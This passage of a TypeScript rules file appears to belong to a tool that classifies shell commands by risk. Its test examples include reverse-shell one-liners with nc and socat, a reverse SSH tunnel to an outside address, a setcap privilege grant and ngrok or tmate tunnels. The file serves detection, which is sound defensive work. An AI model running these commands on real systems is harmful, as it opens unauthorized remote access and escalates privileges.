    effect: "execute",
    key: "remote_access",
    flag: ["ssh -N -R 0.0.0.0:8022:127.0.0.1:22 relay@203.0.113.50"],
    pass: ["ssh -L 5432:localhost:5432 db-bastion", "ssh -N -D 1080 bastion"],
  },
  {
    program: ["tmate", "sshx", "upterm"],
    unless: /^(-V|--version|--help)$/,
    effect: "execute",
    key: "remote_access",
    flag: ["tmate -F"],
    pass: [],
  },
  {
    program: ["setcap"],
    unless: /(^|\s)-v(\s|$)/,
    effect: "system",
    key: "privilege_grant",
    flag: ["setcap cap_sys_admin+eip /usr/local/bin/helper"],
    pass: [],
  },
  // fetched or computed code
  {
    program: ["nc", "ncat", "netcat", "socat", "telnet"],
    args: /(^|\s)-[a-zA-Z]*[ec][a-zA-Z]*(\s|$)|--sh-exec|--exec|exec:|system:|\/bin\/(ba)?sh/,
    effect: "execute",
    key: "remote_access",
    flag: ["nc -e /bin/sh 10.0.0.1 4444", "socat tcp:1.2.3.4:80 exec:/bin/bash"],
    pass: ["nc -z localhost 5432"],
  },
  {
    program: ["ngrok", "cloudflared", "frpc", "chisel", "bore"],
    unless: /^(version|--version|-v|help|tunnel list|--help)\b/,
    effect: "execute",
    key: "remote_access",
    flag: ["ngrok tcp 22"],
    pass: [],
  },
];

// Files, system state and disks (rules/files.ts, system.ts, disks.ts), remote and shared state (rules/remote.ts).
export const RULES: Rule[] = [
  ...BASE_RULES,
  ...FILE_RULES,
  ...SYSTEM_RULES,
  ...DISK_RULES,
  ...REMOTE_RULES,
  ...ACCESS_RULES,
  ...FETCH_RULES,
  ...WINDOWS_RULES,
];
